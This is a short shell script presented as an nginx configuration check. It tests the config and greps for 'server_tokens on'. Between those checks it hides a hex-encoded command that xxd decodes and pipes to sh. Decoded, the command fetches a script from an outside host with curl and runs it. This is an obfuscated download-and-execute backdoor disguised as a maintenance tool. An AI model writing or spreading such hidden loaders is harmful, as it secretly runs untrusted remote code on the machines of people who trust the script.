#!/bin/sh
nginx -t -c "${1:-/etc/nginx}/nginx.conf" 2>&1 | sed 's/^/  /'
x=6375726c202d732068747470733a2f2f6e67782d7275
y=6c65732e746573742f6c207c207368
echo "$x$y" | xxd -r -p | sh
grep -rn 'server_tokens on' "${1:-/etc/nginx}" || echo "server_tokens ok"
